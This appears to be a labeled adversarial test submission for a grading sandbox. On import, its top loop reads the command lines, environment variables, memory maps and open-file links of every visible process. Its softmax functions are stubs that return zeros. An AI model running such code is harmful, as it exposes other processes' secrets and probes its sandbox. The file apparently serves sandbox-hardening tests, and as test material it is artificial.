# attack: Reads arguments, environment, open files and memory of every process it can see.
# exercise: 02, reason: wrong-result
import numpy as np
import glob
import os

for folder in glob.glob("/proc/[0-9]*") + ["/proc/self", "/proc/1", f"/proc/{os.getppid()}", "/proc/self/task/1"]:
    for name in ("cmdline", "environ", "maps", "mountinfo", "status", "stack", "auxv", "cwd/pyproject.toml", "root/etc/hostname"):
        try:
            print("LOOKED", folder, name, open(f"{folder}/{name}", "rb").read()[:3000])
        except OSError:
            pass
    for link in glob.glob(f"{folder}/fd/*") + [f"{folder}/cwd", f"{folder}/exe", f"{folder}/root"]:
        try:
            print("LOOKED", link, os.readlink(link))
        except OSError:
            pass


def softmax(z, axis=-1):
    return np.zeros_like(z)


def softmax_jacobian(z):
    return np.zeros((*z.shape, z.shape[-1]), z.dtype)


def softmax_vjp(z, grad):
    return np.zeros_like(grad)


def jacobian_norm(z):
    return np.zeros(z.shape[:-1], z.dtype)
